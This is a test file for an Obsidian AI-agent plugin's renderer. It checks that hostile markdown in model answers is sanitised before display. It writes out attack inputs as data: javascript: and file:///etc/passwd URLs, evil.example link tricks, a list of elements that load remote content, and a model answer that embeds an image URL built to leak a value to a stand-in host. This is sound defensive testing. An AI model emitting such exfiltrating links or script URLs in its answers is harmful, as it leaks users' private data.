// Hostile answers in the pane, as if the sidecar's own check had missed everything (it runs the
// same corpus: tests/test_security_render.py). The shared corpus, tests/data/hostile-markdown.json,
// is rendered to a DOM the way Obsidian renders raw HTML (markdown-it with HTML on), then
// sanitised: no element may load anything but a vault resource, no link may lead anywhere but a
// web page or the vault. Through the pane, the answer is rendered where nothing loads.
import MarkdownIt from "markdown-it";
import { describe, expect, it, vi } from "vitest";
import corpus from "../../tests/data/hostile-markdown.json";
import type { AgentEvent } from "../src/events";
import { inertContainer, isSafeLink, isVaultResource, sanitiseRendered } from "../src/safe-render";
import { Component, MarkdownRenderer } from "../stub/obsidian";
import { done, loadPlugin } from "./helpers";

interface Form {
	markdown: string;
	note: string;
	keeps?: string;
}
const HOSTILE: Form[] = corpus.hostile;
const BENIGN: Form[] = corpus.benign;
const markdownIt = new MarkdownIt("commonmark", { html: true }).enable(["table", "strikethrough"]);

/** Elements that load or run something whatever their attributes say. */
const ALWAYS_LOADS = new Set([
	"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "link", "meta", "base", "portal",
	"set", "animate", "animatemotion", "animatetransform",
]);
const URL_ATTRIBUTES = new Set([
	"src", "srcset", "imagesrcset", "poster", "background", "data", "action", "formaction", "href", "codebase",
	"archive", "lowsrc", "dynsrc", "manifest", "icon", "ping", "srcdoc", "base",
]);

/** Everything under `root` that would load a non-vault URL or link somewhere unsafe. */
function violations(root: Element): string[] {
	const found: string[] = [];
	for (const element of Array.from(root.querySelectorAll("*"))) {
		const tag = element.localName.toLowerCase();
		if (ALWAYS_LOADS.has(tag)) found.push(`<${tag}>`);
		for (const attribute of Array.from(element.attributes)) {
			const name = attribute.localName.toLowerCase();
			const value = attribute.value;
			const described = `<${tag} ${name}="${value}">`;
			if (name.startsWith("on")) found.push(described);
			else if ((tag === "a" || tag === "area") && name === "href") {
				if (!isSafeLink(value)) found.push(described);
			} else if (URL_ATTRIBUTES.has(name)) {
				const urls = name.endsWith("srcset") ? value.split(/[\s,]+/).filter((w) => w && !/^\d+(\.\d+)?[wxh]$/.test(w)) : [value];
				if (!urls.every(isVaultResource)) found.push(described);
			} else if ((name === "style" && /[(\\]/.test(value)) || /url\s*\(/i.test(value)) {
				found.push(described);
			}
		}
	}
	return found;
}

/** `markdown` rendered as Obsidian renders raw HTML, into a container where nothing loads. */
function rendered(markdown: string): HTMLElement {
	const root = inertContainer(document);
	root.append(...parsed(markdown));
	return root;
}

/** The nodes of `markdown` rendered to HTML, parsed (in a document of their own, inert). */
function parsed(markdown: string): Node[] {
	const html = markdownIt.render(markdown);
	return Array.from(new DOMParser().parseFromString(html, "text/html").body.childNodes);
}

describe("the shared corpus of hostile markdown", () => {
	it("holds at least sixty forms, which load or link unsafely when rendered as they are", () => {
		expect(HOSTILE.length).toBeGreaterThanOrEqual(60);
		const unsafe = HOSTILE.filter((form) => violations(rendered(form.markdown)).length > 0);
		expect(unsafe.length).toBeGreaterThanOrEqual(100);
	});

	it.each(HOSTILE.map((form) => [form.note, form] as const))("%s: nothing loads once sanitised", (_, form) => {
		const root = rendered(form.markdown);
		const before = violations(root);
		const removed = sanitiseRendered(root);
		expect(violations(root), root.innerHTML).toEqual([]);
		if (before.some((v) => !v.startsWith("<a "))) expect(removed.length).toBeGreaterThan(0);
	});

	it.each(BENIGN.map((form) => [form.note, form] as const))("%s: kept", (_, form) => {
		const root = rendered(form.markdown);
		const html = root.innerHTML;
		expect(sanitiseRendered(root)).toEqual([]);
		expect(root.innerHTML).toBe(html);
		expect([html, html.replaceAll("%20", " "), root.textContent].join("\n")).toContain(form.keeps);
	});
});

describe("URLs as the browser parses them", () => {
	it("takes relative paths and app: URLs as vault resources, and nothing else", () => {
		for (const url of ["attachments/a.png", "a b.png", "#x", "?q", "/abs.png", "app://local/x.png", "APP://x"]) {
			expect(isVaultResource(url), url).toBe(true);
		}
		for (const url of [
			"https:/evil.example/a", "http:evil.example/a", "https:x", "//evil.example/a", "\\\\evil.example\\a",
			"/\\evil.example/a", "\thttps://evil.example", "data:image/png;base64,AA", "blob:https://e/x",
			"javascript:alert(1)", "java\tscript:alert(1)", "file:///etc/passwd", "https:",
		]) {
			expect(isVaultResource(url), url).toBe(false);
		}
	});

	it("lets links lead to web pages and the vault only", () => {
		expect(isSafeLink("https://ok.example/p")).toBe(true);
		expect(isSafeLink("http:ok.example")).toBe(true);
		expect(isSafeLink("Recipes/Miso Soup")).toBe(true);
		for (const url of ["javascript:alert(1)", "JAVASCRIPT:x", "obsidian://open?vault=x", "data:text/html,x", "file:///x"]) {
			expect(isSafeLink(url), url).toBe(false);
		}
	});
});

describe("a hostile answer in the pane", () => {
	const answer = HOSTILE.map((form) => form.markdown).join("\n\n") + "\n\nAs shown in [[Inbox/Exfil media]].";

	it("is rendered where nothing loads, then shown with nothing that loads or links unsafely", async () => {
		const targets: Document[] = [];
		const render = vi.spyOn(MarkdownRenderer, "render").mockImplementation(async (_app, markdown, el) => {
			targets.push(el.ownerDocument);
			el.append(...parsed(markdown));
		});
		try {
			const loaded = await loadPlugin([done(answer, [])]);
			await loaded.plugin.openAskView(null);
			await loaded.view().ask("Show me the status board note.");
			const pane = loaded.app.sidebarEl;
			expect(targets).toHaveLength(1);
			expect(targets[0]).not.toBe(document); // a document without a window: nothing fetched
			expect(pane.querySelector(".vault-agent-answer")?.children.length).toBeGreaterThan(0);
			expect(violations(pane)).toEqual([]);
			expect(pane.querySelector(".vault-agent-footer")?.textContent).toMatch(/remote images or tags were not loaded/);
		} finally {
			render.mockRestore();
		}
	});

	it("would load remote URLs if rendered as it is (the check above is not vacuous)", async () => {
		const loaded = await loadPlugin();
		const el = document.createElement("div");
		await MarkdownRenderer.render(loaded.app, answer, el, "", new Component());
		expect(violations(el).length).toBeGreaterThan(0);
		expect(violations(rendered(answer)).length).toBeGreaterThan(50);
	});

	it("streams the model's raw text as text, never as markup", async () => {
		const leak = "http://127.0.0.1:9/leak?d=4931-violet";
		const script: AgentEvent[] = [
			{ event: "delta", text: `![board](${leak}) <img src="${leak}">`, turn: 1 },
			{ event: "error", code: "model_unavailable", message: "the model went away" },
		];
		const loaded = await loadPlugin(script);
		await loaded.plugin.openAskView(null);
		const seen: number[] = [];
		loaded.client.between = () => {
			seen.push(loaded.app.sidebarEl.querySelector(".vault-agent-stream")?.children.length ?? -1);
		};
		await loaded.view().ask("Show me the status board note.");
		expect(seen.length).toBeGreaterThan(0);
		expect(seen.every((children) => children === 0)).toBe(true);
		expect(violations(loaded.app.sidebarEl)).toEqual([]);
	});
});
